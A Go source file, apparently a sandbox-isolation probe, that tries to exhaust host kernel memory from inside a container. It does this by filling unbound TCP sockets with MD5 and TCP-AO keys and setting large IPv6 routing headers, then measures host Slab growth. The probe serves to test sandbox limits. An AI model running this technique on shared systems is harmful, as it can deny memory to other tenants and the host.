package main

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"os"
	"strconv"
	"strings"
	"unsafe"

	"golang.org/x/sys/unix"
)

// optMem attacks the host's kernel memory through socket options, which
// the kernel allocates with sock_kmalloc, charged to no memory cgroup and
// bounded per socket only by net.core.optmem_max: it opens socks unbound
// TCP sockets (no socket watch counts them) and fills each with TCP_MD5SIG
// keys and a TCP-AO key; then sets an IPv6 routing header of 2 segments,
// what a program may need, and of 127, more than the sandbox's optmem_max
// holds. It reports the namespace's optmem_max, what each
// option answered on the first socket, and the host's Slab growth while it
// holds everything (/proc/meminfo is the host's).
func optMem(socks int) {
	limit, _ := os.ReadFile("/proc/sys/net/core/optmem_max")
	fmt.Printf("optmem_max %s\n", strings.TrimSpace(string(limit)))
	before := slabKiB()
	var fds []int
	keys := 0
	for i := range socks {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
		if err != nil {
			fmt.Println("socket:", err)
			break
		}
		fds = append(fds, fd)
		n, md5err := fillMD5(fd)
		keys += n
		aoErr := addAOKey(fd)
		if i == 0 {
			fmt.Printf("TCP_MD5SIG: %s, TCP_AO_ADD_KEY: %s\n", errName(md5err), errName(aoErr))
		}
	}
	fmt.Printf("IPv6 routing header of 2 segments: %s, of 127: %s\n", errName(stickyRoute(2)), errName(stickyRoute(127)))
	grew := slabKiB() - before
	fmt.Printf("sockets %d md5 keys %d slab grew %d KiB\n", len(fds), keys, grew)
	for _, fd := range fds {
		unix.Close(fd)
	}
}

// fillMD5 adds TCP_MD5SIG keys, each for another peer, until the kernel
// refuses one, and returns how many it took and the refusal.
func fillMD5(fd int) (int, error) {
	for n := 0; n < 4096; n++ {
		var sig unix.TCPMD5Sig
		sa := (*unix.RawSockaddrInet4)(unsafe.Pointer(&sig.Addr))
		sa.Family = unix.AF_INET
		binary.BigEndian.PutUint32(sa.Addr[:], 0xc6336400+uint32(n)) // 198.51.100.0 on
		sig.Keylen = 80
		copy(sig.Key[:], bytes.Repeat([]byte{'k'}, 80))
		if err := setsockopt(fd, unix.IPPROTO_TCP, unix.TCP_MD5SIG, unsafe.Pointer(&sig), unsafe.Sizeof(sig)); err != nil {
			return n, err
		}
	}
	return 4096, nil
}

// addAOKey adds one TCP-AO key (struct tcp_ao_add, linux/tcp.h): 0 on
// a kernel that has TCP-AO, ENOPROTOOPT on one without.
func addAOKey(fd int) error {
	var add [288]byte
	binary.LittleEndian.PutUint16(add[0:], unix.AF_INET) // addr, a sockaddr_storage
	copy(add[128:], "hmac(sha1)")                        // alg_name[64]
	add[202] = 32                                        // prefix
	add[205] = 12                                        // maclen
	add[207] = 20                                        // keylen
	return setsockopt(fd, unix.IPPROTO_TCP, tcpAOAddKey, unsafe.Pointer(&add[0]), uintptr(len(add)))
}

// tcpAOAddKey is TCP_AO_ADD_KEY (linux/tcp.h), which x/sys/unix does not name.
const tcpAOAddKey = 38

// stickyRoute sets, on a new IPv6 socket, a segment routing header (type
// 4, no privilege needed) of n segments, a sticky option the kernel keeps
// in option memory: 2 KiB at 127.
func stickyRoute(n int) error {
	fd, err := unix.Socket(unix.AF_INET6, unix.SOCK_DGRAM, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	srh := make([]byte, 8+16*n)
	srh[1], srh[2], srh[3], srh[4] = byte(2*n), 4, byte(n-1), byte(n-1) // length, type 4, segments left, last entry
	for i := range n {
		srh[8+16*i] = 0x20 // 2001:db8::/32, a documentation prefix
		srh[8+16*i+1] = 0x01
		srh[8+16*i+2] = 0x0d
		srh[8+16*i+3] = 0xb8
	}
	return unix.SetsockoptString(fd, unix.IPPROTO_IPV6, unix.IPV6_RTHDR, string(srh))
}

func setsockopt(fd, level, opt int, p unsafe.Pointer, n uintptr) error {
	_, _, e := unix.Syscall6(unix.SYS_SETSOCKOPT, uintptr(fd), uintptr(level), uintptr(opt), uintptr(p), n, 0)
	if e != 0 {
		return e
	}
	return nil
}

// slabKiB is the host's Slab from /proc/meminfo, in KiB.
func slabKiB() int {
	b, _ := os.ReadFile("/proc/meminfo")
	for _, line := range strings.Split(string(b), "\n") {
		if f := strings.Fields(line); len(f) >= 2 && f[0] == "Slab:" {
			n, _ := strconv.Atoi(f[1])
			return n
		}
	}
	return 0
}
